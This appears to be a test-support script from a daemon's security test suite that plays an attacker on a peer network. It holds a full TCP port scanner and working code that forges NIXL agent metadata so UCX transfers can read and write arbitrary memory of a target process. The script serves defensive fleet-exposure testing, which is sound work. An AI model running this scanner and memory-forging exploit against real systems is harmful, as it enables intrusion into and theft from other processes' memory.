"""An attacker on the peer network: a port scan, and a NIXL agent of its own that forges
another agent's metadata or uses a fleet member's offer (tests/daemon/test_fleet_exposure.py).

    python tests/support/nixl_forge.py scan HOST
        Prints {"open": [ports]}: every TCP port of HOST (1-65535) that accepts a
        connection.
    python tests/support/nixl_forge.py agent TOWARD
        A NIXL agent (UCX over the one interface that reaches the address TOWARD)
        with a registered buffer, and a secret in memory it never registered.
        Prints {"pid", "ip", "port", "buffer", "secret_at", "secret"}, then answers
        one JSON line for each command line on stdin:
          forge IP PORT      metadata for the agent whose UCX listens at IP:PORT,
                             forged from this agent's own: {"remote": name}
          read REMOTE ADDR N READ N bytes at ADDR of agent REMOTE: {"state", "data"}
          write REMOTE ADDR N WRITE N bytes of the buffer to ADDR of REMOTE: {"state"}
          fill HOST:PORT TOKEN SET_ID
                             open a Fill as a token holder (peer_open.open_fill) and
                             load the offer's metadata: {"remote", "regions"}
          window N           ask the open Fill for a window: {"granted"} or
                             {"code", "details"} where the daemon ended the stream
          quit

Run under `ip netns exec NS` with UCX_TLS=tcp. The forged metadata is this
agent's own (get_agent_metadata, nixlSerDes: a tag, an 8-byte little-endian
length, the value, "|") with the agent's name changed; in its UCX worker
address, the worker UUID (its first 8 bytes) randomised, this agent's IPv4
(4 bytes) replaced by the target's and its TCP port (2 bytes big-endian,
after the bytes 00 82) by the target's; and its one memory section
(address, length, device: 8 bytes little-endian each, then the rkey)
widened to all of user space. NIXL checks descriptors against sections on
the initiator's side only, and UCX's TCP transport serves a GET or PUT at any
address, so whatever UCX listens on is the process's whole memory.
"""

from __future__ import annotations

import ctypes
import errno
import importlib
import json
import os
import resource
import secrets
import select
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from engramd.fleet.netdev import interface_of, local_address

#: Bytes of the registered buffer: what one read or write moves at most.
BUFFER_BYTES = 1 << 20
#: Where user space ends on x86-64 and aarch64 (47-bit and 48-bit addresses): the forged
#: section covers [0, USER_SPACE_END).
USER_SPACE_END = 1 << 47
#: Seconds a transfer may take before its state is reported as it is.
XFER_TIMEOUT_S = 10.0
#: Connections the scan has in flight at once.
SCAN_BATCH = 2048
#: Seconds an interface has to come up.
DEVICE_UP_S = 10.0
#: Seconds a connect may take: a veth answers a closed port at once (RST).
CONNECT_TIMEOUT_S = 2.0


def scan(host: str) -> list[int]:
    """Every TCP port of `host` that accepts a connection (nonblocking connects, in batches)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, SCAN_BATCH + 64)), hard))
    found: list[int] = []
    poller = select.epoll()
    for first in range(1, 65536, SCAN_BATCH):
        pending: dict[int, tuple[socket.socket, int]] = {}
        for port in range(first, min(first + SCAN_BATCH, 65536)):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            code = s.connect_ex((host, port))
            if code == errno.EINPROGRESS:
                pending[s.fileno()] = (s, port)
                poller.register(s.fileno(), select.EPOLLOUT | select.EPOLLERR | select.EPOLLHUP)
                continue
            if code == 0:
                found.append(port)
            s.close()
        until = time.monotonic() + CONNECT_TIMEOUT_S
        while pending and time.monotonic() < until:
            for fd, _ in poller.poll(0.1):
                s, port = pending.pop(fd)
                poller.unregister(fd)
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    found.append(port)
                s.close()
        for fd, (s, _) in pending.items():
            # No answer at all: filtered, not open.
            poller.unregister(fd)
            s.close()
    poller.close()
    return sorted(found)


def own_listener(pid: int) -> tuple[str, int]:
    """The one TCP address process `pid` listens on in this namespace (as `ss -ltnp` says)."""
    out = subprocess.run(
        ["ss", "-ltnpH"], capture_output=True, text=True, check=True, timeout=30
    ).stdout
    found = []
    for line in out.splitlines():
        if f"pid={pid}," in line:
            host, _, port = line.split()[3].rpartition(":")
            found.append((host.strip("[]"), int(port)))
    if len(found) != 1:
        raise RuntimeError(f"process {pid} listens on {found}, not on one address")
    return found[0]


def _field(blob: bytes, at: int, tag: bytes) -> tuple[int, int]:
    """(start, end) of the value of the nixlSerDes field `tag` that starts at `at`."""
    if blob[at : at + len(tag)] != tag:
        raise ValueError(f"no field {tag!r} at {at} of the metadata")
    start = at + len(tag) + 8
    end = start + int.from_bytes(blob[at + len(tag) : start], "little")
    if blob[end : end + 1] != b"|":
        raise ValueError(f"field {tag!r} of the metadata does not end with '|'")
    return start, end


def _one(data: bytes, old: bytes, new: bytes, what: str) -> bytes:
    if data.count(old) != 1:
        raise ValueError(f"{what} {old.hex()} occurs {data.count(old)} times, not once")
    return data.replace(old, new)


def forge(
    own: bytes,
    name: str,
    ip: tuple[str, str],
    port: tuple[int, int],
    section: tuple[int, int],
) -> bytes:
    """Agent `name` at the target's IP and port (`ip`, `port`: this agent's, the target's),
    its memory all of user space; from this agent's metadata `own`, whose one section is
    `section` (address, bytes)."""
    header = b"nixlSerDes|"
    start, end = _field(own, len(header), b"Agent")
    blob = header + b"Agent" + struct.pack("<Q", len(name)) + name.encode() + own[end:]
    conn = blob.index(b"|t" + struct.pack("<Q", 3) + b"UCX|") + len(b"|t") + 8 + 4
    start, end = _field(blob, conn, b"c")
    address = blob[start:end]
    # A header byte (the address format's version), then the worker's UUID.
    body = _one(address[9:], socket.inet_aton(ip[0]), socket.inet_aton(ip[1]), "the IPv4")
    body = _one(
        body,
        b"\x00\x82" + struct.pack(">H", port[0]),
        b"\x00\x82" + struct.pack(">H", port[1]),
        "the TCP port",
    )
    blob = blob[:start] + address[:1] + secrets.token_bytes(8) + body + blob[end:]
    return _one(
        blob,
        struct.pack("<QQQ", section[0], section[1], 0),
        struct.pack("<QQQ", 0, USER_SPACE_END, 0),
        "the memory section",
    )


class Attacker:
    """This process's NIXL agent, its buffer and what it was told of others."""

    def __init__(self, toward: str) -> None:
        api = importlib.import_module("nixl_cu12._api")
        self.agent = api.nixl_agent(
            f"forge-{secrets.token_hex(4)}",
            api.nixl_agent_config(enable_listen_thread=False, backends=["UCX"]),
        )
        self.buffer = ctypes.create_string_buffer(BUFFER_BYTES)
        self.agent.register_memory([(ctypes.addressof(self.buffer), BUFFER_BYTES, 0, "")], "DRAM")
        #: Never registered: what only a read outside the registered memory finds.
        self.secret = secrets.token_bytes(32)
        self._secret_buffer = ctypes.create_string_buffer(self.secret, len(self.secret))
        self.ip, self.port = own_listener(os.getpid())
        if self.ip != local_address(toward):
            raise RuntimeError(f"UCX listens on {self.ip}, not on the address toward {toward}")
        self.fill: Any = None

    def hello(self) -> dict[str, Any]:
        return {
            "pid": os.getpid(),
            "ip": self.ip,
            "port": self.port,
            "buffer": ctypes.addressof(self.buffer),
            "secret_at": ctypes.addressof(self._secret_buffer),
            "secret": self.secret.hex(),
        }

    def forge(self, ip: str, port: str) -> dict[str, Any]:
        blob = forge(
            self.agent.get_agent_metadata(),
            f"forged-{ip}-{port}-{secrets.token_hex(4)}",
            (self.ip, ip),
            (self.port, int(port)),
            (ctypes.addressof(self.buffer), BUFFER_BYTES),
        )
        return {"remote": self._added(blob)}

    def _added(self, metadata: bytes) -> str:
        name = self.agent.add_remote_agent(metadata)
        return name.decode() if isinstance(name, bytes) else str(name)

    def transfer(self, op: str, remote: str, address: str, nbytes: str) -> dict[str, Any]:
        n = int(nbytes)
        if not 0 < n <= BUFFER_BYTES:
            raise ValueError(f"{n} bytes: at most {BUFFER_BYTES}")
        a = self.agent
        handle = a.initialize_xfer(
            op,
            a.get_xfer_descs([(ctypes.addressof(self.buffer), n, 0)], "DRAM"),
            a.get_xfer_descs([(int(address, 0), n, 0)], "DRAM"),
            remote,
        )
        state = str(a.transfer(handle))
        until = time.monotonic() + XFER_TIMEOUT_S
        while state == "PROC" and time.monotonic() < until:
            state = str(a.check_xfer_state(handle))
        # Not released: a handle to a peer that died may hang NIXL's release.
        reply: dict[str, Any] = {"state": state}
        if op == "READ":
            reply["data"] = self.buffer.raw[:n].hex()
        return reply

    def open(self, address: str, token: str, set_id: str) -> dict[str, Any]:
        from peer_open import open_fill

        self.fill = open_fill(address, token, set_id)
        offer = self.fill.offer
        return {
            "remote": self._added(offer.nixl_metadata),
            "regions": [[r.address, r.nbytes] for r in offer.regions],
        }

    def window(self, nbytes: str) -> dict[str, Any]:
        import grpc

        try:
            return {"granted": self.fill.window(int(nbytes)).granted}
        except grpc.RpcError as e:
            code = e.code() if isinstance(e, grpc.Call) else None
            details = e.details() if isinstance(e, grpc.Call) else str(e)
            return {"code": code.name if code else "", "details": details}


def _wait_up(device: str) -> None:
    """Return once `device` is up: UCX passes over an interface whose carrier is still
    coming up (a veth made a moment ago)."""
    state = Path(f"/sys/class/net/{device}/operstate")
    until = time.monotonic() + DEVICE_UP_S
    while state.read_text().strip() != "up":
        if time.monotonic() > until:
            raise RuntimeError(f"{device} is not up after {DEVICE_UP_S} s")
        time.sleep(0.01)


def serve(toward: str) -> None:
    """Start the agent and answer commands until `quit` or the end of stdin."""
    # Before UCX starts: it listens on every interface it may use.
    device = interface_of(toward)
    os.environ["UCX_NET_DEVICES"] = device
    _wait_up(device)
    # NIXL logs to stdout (its Python logger and its C++ one): the answers keep the
    # descriptor, everything else goes to stderr.
    answers = os.fdopen(os.dup(1), "w")
    os.dup2(2, 1)
    sys.stdout = sys.stderr

    def say(doc: dict[str, Any]) -> None:
        answers.write(json.dumps(doc) + "\n")
        answers.flush()

    attacker = Attacker(toward)
    say(attacker.hello())
    commands: dict[str, Callable[..., dict[str, Any]]] = {
        "forge": attacker.forge,
        "read": lambda *a: attacker.transfer("READ", *a),
        "write": lambda *a: attacker.transfer("WRITE", *a),
        "fill": attacker.open,
        "window": attacker.window,
    }
    for line in sys.stdin:
        op, *args = line.split()
        if op == "quit":
            break
        try:
            say(commands[op](*args))
        except Exception as e:  # the test reads what failed
            say({"error": f"{type(e).__name__}: {e}"})
    # Without NIXL's teardown: its endpoints to a peer that died may hang it.
    os._exit(0)


def main() -> int:
    mode, arg = sys.argv[1:3]
    if mode == "scan":
        print(json.dumps({"open": scan(arg)}), flush=True)
    else:
        serve(arg)
    return 0


if __name__ == "__main__":
    sys.exit(main())
